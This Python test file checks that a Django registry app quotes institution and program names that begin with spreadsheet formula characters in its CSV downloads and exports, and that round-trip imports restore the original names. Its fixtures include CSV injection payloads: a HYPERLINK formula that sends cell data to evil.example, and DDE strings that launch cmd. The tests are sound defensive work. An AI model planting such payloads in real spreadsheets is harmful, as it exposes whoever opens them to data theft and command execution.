"""Issue 9: no download runs as a spreadsheet formula (OWASP's CSV injection advice), and the quoting
the writer adds is exactly what the importer takes off again."""
import csv
import io
import json

import pytest
from django.core.management import call_command
from django.urls import reverse
from hypothesis import given
from hypothesis import strategies as st

from catalog.models import Institution, Source
from core.fileformat.cells import FORMULA_STARTERS, from_spreadsheet
from core.fileformat.writing import spreadsheet_safe
from tests.factories import InstitutionFactory, ProgramFactory

pytestmark = pytest.mark.django_db

HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"Click me")'
# One name per character a spreadsheet starts a formula with.
HOSTILE_NAMES = [HYPERLINK, "+1+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+9)*cmd|' /C calc'!A0",
                 "\t=1+1 Tab University", "\r=1+1 Return University"]
# Names that import keeps whole (import collapses surrounding whitespace, so not the tab and CR ones).
IMPORTABLE_NAMES = HOSTILE_NAMES[:4] + ["'=Genuinely quoted University"]


def csv_names(body: str) -> list[str]:
    return [row["name"] for row in csv.DictReader(io.StringIO(body, newline=""))]


def streamed(response) -> str:
    assert response.status_code == 200
    return b"".join(response.streaming_content).decode("utf-8")


def export(directory) -> dict[str, str]:
    call_command("export_registry", str(directory), stdout=io.StringIO())
    # Bytes decoded, not read_text(): a carriage return inside a cell must stay one.
    return {path.name: path.read_bytes().decode("utf-8") for path in directory.iterdir()}


@given(st.text())
def test_reading_back_a_written_cell_gives_the_value(text):
    assert from_spreadsheet(spreadsheet_safe(text)) == text


@given(st.text())
def test_no_written_cell_starts_a_formula_unless_it_is_a_plain_negative_number(text):
    written = spreadsheet_safe(text)
    if written.startswith(FORMULA_STARTERS):
        assert written.startswith("-") and float(written) < 0


@pytest.mark.parametrize(("value", "written"), [
    (HYPERLINK, "'" + HYPERLINK), ("-5", "-5"), ("-0.25", "-0.25"), ("-5+A1", "'-5+A1"), ("+86 23 1234", "'+86 23 1234"),
    ("'=x", "''=x"), ("''@x", "'''@x"), ("'plain", "'plain"), ("O'Brien", "O'Brien"), ("", ""),
])
def test_cells_are_quoted_as_owasp_advises(value, written):
    assert spreadsheet_safe(value) == written
    assert from_spreadsheet(written) == value


@pytest.mark.parametrize("name", HOSTILE_NAMES)
def test_listing_download_open_data_file_and_export_quote_formula_names(client, tmp_path, name):
    InstitutionFactory(name=name)
    quoted = "'" + name

    listing = streamed(client.get(reverse("catalog:institution_export")))
    data = streamed(client.get(reverse("opendata:download", kwargs={"kind": "institutions", "extension": "csv"})))
    files = export(tmp_path)

    for body in (listing, data, files["institutions.csv"]):
        assert quoted in csv_names(body)
        assert name not in csv_names(body)
    # JSON is no spreadsheet's: the name stays as it is.
    assert name in [item["name"] for item in json.loads(files["institutions.json"])]


def test_negative_numbers_stay_numbers_in_csv():
    assert spreadsheet_safe("-12.5") == "-12.5"


def test_an_exported_file_imports_back_to_the_original_names(tmp_path):
    source = Source.objects.first()
    for name in IMPORTABLE_NAMES:
        InstitutionFactory(name=name).sources.add(source)
    # The parent column is read once the whole file is in: its quote must come off once, not twice.
    InstitutionFactory(name="Child of a quoted parent",
                       parent=Institution.objects.get(name=IMPORTABLE_NAMES[-1])).sources.add(source)
    files = export(tmp_path / "out")
    assert "''=Genuinely quoted University" in files["institutions.csv"]
    Institution.objects.filter(name="Child of a quoted parent").delete()  # first: a parent is protected
    Institution.objects.filter(name__in=IMPORTABLE_NAMES).delete()

    call_command("import_registry", "--publish", str(tmp_path / "out" / "institutions.csv"), stdout=io.StringIO())

    for name in IMPORTABLE_NAMES:
        assert Institution.objects.filter(name=name).exists(), name
    child = Institution.objects.get(name="Child of a quoted parent")
    assert child.parent.name == "'=Genuinely quoted University"
    assert export(tmp_path / "again")["institutions.csv"] == files["institutions.csv"]


def test_importing_a_json_file_keeps_formula_names_as_written(tmp_path):
    source = Source.objects.first()
    for name in IMPORTABLE_NAMES:
        InstitutionFactory(name=name).sources.add(source)
    files = export(tmp_path / "out")
    Institution.objects.filter(name__in=IMPORTABLE_NAMES).delete()

    call_command("import_registry", "--publish", str(tmp_path / "out" / "institutions.json"), stdout=io.StringIO())

    assert set(Institution.objects.filter(name__in=IMPORTABLE_NAMES).values_list("name", flat=True)) == \
        set(IMPORTABLE_NAMES)
    assert export(tmp_path / "again")["institutions.json"] == files["institutions.json"]


def test_program_listing_download_quotes_formula_names(client):
    ProgramFactory(name=HYPERLINK)
    body = streamed(client.get(reverse("partnerships:program_export")))
    assert "'" + HYPERLINK in csv_names(body) and HYPERLINK not in csv_names(body)


def test_admin_import_of_an_exported_file_gives_the_original_names(staff_client, tmp_path):
    source = Source.objects.first()
    for name in IMPORTABLE_NAMES:
        InstitutionFactory(name=name).sources.add(source)
    files = export(tmp_path / "out")
    Institution.objects.filter(name__in=IMPORTABLE_NAMES).delete()

    with (tmp_path / "out" / "institutions.csv").open("rb") as handle:
        preview = staff_client.post(reverse("admin:catalog_institution_import"),
                                    {"format": "0", "resource": "0", "import_file": handle, "publish": "on"})
    assert preview.status_code == 200 and "Confirm import" in preview.content.decode()
    form = preview.context["confirm_form"]
    confirmed = staff_client.post(reverse("admin:catalog_institution_process_import"),
                                  {name: form.initial.get(name, "") for name in form.fields})

    assert confirmed.status_code == 302
    assert set(Institution.objects.filter(name__in=IMPORTABLE_NAMES).values_list("name", flat=True)) == \
        set(IMPORTABLE_NAMES)
